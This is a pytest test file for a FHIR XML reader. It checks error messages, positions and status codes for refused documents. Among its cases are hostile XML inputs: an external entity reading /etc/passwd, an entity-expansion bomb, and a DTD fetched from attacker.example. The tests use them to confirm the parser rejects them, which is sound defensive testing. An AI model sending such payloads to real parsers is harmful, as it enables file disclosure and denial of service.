"""What the XML reader refuses, and how it says so: each problem with its line and column, the
FHIRPath of the element, and whether it makes a 400 (not readable XML) or a 422 (XML, not FHIR)."""

from __future__ import annotations

import pytest

from fhirportal.fhir import xml

NS = 'xmlns="http://hl7.org/fhir"'


def _problem(document: str | bytes) -> xml.XmlProblem:
    with pytest.raises(xml.XmlProblem) as caught:
        xml.read(document.encode() if isinstance(document, str) else document)
    return caught.value


# (document, syntax: 400 rather than 422, words the message must hold, expression)
REFUSED = [
    ("<Patient", True, "not well-formed", None),
    (f"<Patient {NS}><active value='true'></Patient>", True, "mismatched tag", None),
    (f"<Patient {NS}/><Patient {NS}/>", True, "junk after document element", None),
    (f"<Patient {NS}><name><family value='&nbsp;'/></name></Patient>", True, "undefined entity", None),
    ('<?xml version="1.0"?><!DOCTYPE Patient [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
     f"<Patient {NS}><id value='&x;'/></Patient>", True, "DOCTYPE", None),
    ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
     f"<Patient {NS}><id value='&lol2;'/></Patient>", True, "DOCTYPE", None),
    ('<!DOCTYPE Patient SYSTEM "http://attacker.example/evil.dtd">' f"<Patient {NS}/>", True, "DOCTYPE", None),
    ("<Patient/>", True, "namespace '(none)'", None),
    ('<Patient xmlns="http://hl7.org/fhir/2">', True, "namespace 'http://hl7.org/fhir/2'", None),
    (f"<Nonsense {NS}/>", True, "not a FHIR R4 resource type", None),
    (f"<Address {NS}/>", True, "not a FHIR R4 resource type", None),
    (f"<Patient {NS}><nickname value='x'/></Patient>", False, "Unknown element 'nickname'", "Patient"),
    (f"<Patient {NS}><name><given value='x'/><familyName value='y'/></name></Patient>", False,
     "Unknown element 'familyName'", "Patient.name[0]"),
    (f"<Patient {NS}><name><id value='x'/></name></Patient>", False, "Unknown element 'id'", "Patient.name[0]"),
    (f'<Patient {NS}><active xmlns="urn:other" value="true"/></Patient>', False, "namespace 'urn:other'",
     "Patient.active"),
    (f"<Patient {NS}><text><status value='generated'/><div>x</div></text></Patient>", False,
     "must be in 'http://www.w3.org/1999/xhtml'", "Patient.text.div"),
    (f'<Patient {NS}><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><svg xmlns='
     f'"http://www.w3.org/2000/svg"/></div></text></Patient>', False, "only hold XHTML elements", "Patient.text.div"),
    (f"<Patient {NS}><gender value='male'/><active value='true'/></Patient>", False,
     "'active' is out of order", "Patient"),
    (f"<Patient {NS}><gender value='male'/><gender value='female'/></Patient>", False,
     "'gender' appears more than once", "Patient"),
    (f"<Patient {NS}><name><given value='a'/><family value='b'/><given value='c'/></name></Patient>", False,
     "'family' is out of order", "Patient.name[0]"),
    (f"<Patient {NS}><deceasedBoolean value='true'/><deceasedDateTime value='2020'/></Patient>", False,
     "both 'deceasedBoolean' and 'deceasedDateTime'", "Patient"),
    (f"<Patient {NS}><gender/></Patient>", False, "Patient.gender is empty", "Patient.gender"),
    (f"<Patient {NS}><name/></Patient>", False, "Patient.name[0] is empty", "Patient.name[0]"),
    (f"<Patient {NS}><gender value=''/></Patient>", False, "is empty", "Patient.gender"),
    (f"<Patient {NS}><gender value='male' foo='1'/></Patient>", False, "attribute 'foo'", "Patient.gender"),
    (f"<Patient {NS}><name url='x'><family value='b'/></name></Patient>", False, "attribute 'url'",
     "Patient.name[0]"),
    (f"<Patient {NS}><gender>male</gender></Patient>", False, "Text is not allowed", "Patient.gender"),
    (f"<Patient {NS}>hello</Patient>", False, "Text is not allowed", "Patient"),
    (f"<Patient {NS}><active value='yes'/></Patient>", False, "'yes' is not a boolean", "Patient.active"),
    (f"<Patient {NS}><multipleBirthInteger value='1.5'/></Patient>", False, "not an integer",
     "Patient.multipleBirthInteger"),
    (f"<Observation {NS}><valueQuantity><value value='1,5'/></valueQuantity></Observation>", False,
     "not a decimal", "Observation.valueQuantity.value"),
    (f"<Observation {NS}><valueQuantity><value value='1e999'/></valueQuantity></Observation>", False,
     "out of range", "Observation.valueQuantity.value"),
    (f"<Patient {NS}><contained/></Patient>", False, "holds no resource", "Patient.contained[0]"),
    (f"<Patient {NS}><contained><Patient/><Patient/></contained></Patient>", False, "more than one resource",
     "Patient.contained[0]"),
    (f"<Patient {NS}><contained><name/></contained></Patient>", False, "must hold a FHIR resource",
     "Patient.contained[0]"),
]


@pytest.mark.parametrize(("document", "syntax", "words", "expression"), REFUSED)
def test_refused(document, syntax, words, expression):
    problem = _problem(document)
    assert words in problem.message
    assert problem.syntax is syntax
    assert problem.expression == expression
    assert problem.line >= 1 and problem.column >= 1


def test_position_is_where_the_problem_is():
    problem = _problem(f"<Patient {NS}>\n  <active value='true'/>\n  <nickname value='x'/>\n</Patient>")
    assert (problem.line, problem.column) == (3, 3)
    assert str(problem).endswith("(line 3, column 3)")


def test_nesting_is_bounded():
    deep = f"<Patient {NS}>" + "<extension url='u'>" * 80 + "</extension>" * 80 + "</Patient>"
    problem = _problem(deep)
    assert problem.syntax and "deeper than 64 levels" in problem.message
    assert xml.read(deep.encode(), max_depth=100)["extension"][0]["url"] == "u"


def test_xhtml_nesting_counts_too():
    deep = f'<Patient {NS}><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml">' \
           + "<b>" * 70 + "x" + "</b>" * 70 + "</div></text></Patient>"
    assert "deeper than" in _problem(deep).message


def test_the_body_is_read_as_utf8_whatever_it_declares():
    latin1 = f'<?xml version="1.0" encoding="ISO-8859-1"?><Patient {NS}><name><family value="Müller"/></name></Patient>'
    assert xml.read(latin1.encode())["name"][0]["family"] == "Müller"
    assert _problem(latin1.encode("latin-1")).syntax


def test_nul_characters_are_refused():
    assert _problem(f"<Patient {NS}><id value='a\x00'/></Patient>").syntax
    assert _problem(f"<Patient {NS}><id value='a&#0;'/></Patient>").syntax


def test_what_is_ignored():
    """Comments, processing instructions and attributes of other namespaces (xsi:schemaLocation) are no content."""
    document = (f'<?xml version="1.0"?><!-- a comment --><Patient {NS} xmlns:xsi="http://www.w3.org/2001/XMLSchema-'
                f'instance" xsi:schemaLocation="http://hl7.org/fhir ../../schema/fhir-single.xsd"><!-- c -->'
                f'<?pi x?><active value="true"/>\n   \n</Patient>')
    assert xml.read(document.encode()) == {"resourceType": "Patient", "active": True}


def test_prefixed_fhir_elements_are_fhir_elements():
    document = '<f:Patient xmlns:f="http://hl7.org/fhir"><f:active value="false"/></f:Patient>'
    assert xml.read(document.encode()) == {"resourceType": "Patient", "active": False}


def test_a_div_that_does_not_stand_alone_is_written_out_again():
    """A div in a prefixed XHTML namespace declared on the root cannot be cut out as written."""
    document = (f'<Patient {NS} xmlns:h="http://www.w3.org/1999/xhtml"><text><status value="generated"/>'
                f'<h:div class="n"><h:p>a &amp; b<h:br/></h:p></h:div></text></Patient>')
    div = xml.read(document.encode())["text"]["div"]
    assert div == '<div xmlns="http://www.w3.org/1999/xhtml" class="n"><p>a &amp; b<br/></p></div>'


def test_a_div_written_as_is_keeps_its_text():
    div = '<div xmlns="http://www.w3.org/1999/xhtml" xml:lang="en">\n  <p style="x">&#169; &lt;2024&gt;</p>\n</div>'
    document = f'<Patient {NS}><text><status value="generated"/>{div}</text></Patient>'
    assert xml.read(document.encode())["text"]["div"] == div


def test_an_empty_element_div_is_written_out_again():
    document = f'<Patient {NS}><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"/></text></Patient>'
    assert xml.read(document.encode())["text"]["div"] == '<div xmlns="http://www.w3.org/1999/xhtml"/>'
